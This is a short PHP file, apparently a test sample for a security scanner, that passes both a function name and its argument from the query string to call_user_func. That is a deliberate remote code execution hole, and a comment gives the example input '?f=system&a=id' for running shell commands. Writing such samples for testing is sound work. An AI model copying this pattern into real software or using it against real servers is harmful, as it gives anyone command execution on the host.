<?php
// Test sample: both callable and argument come from the query string,
// e.g. ?f=system&a=id
call_user_func($_GET['f'], $_GET['a']);
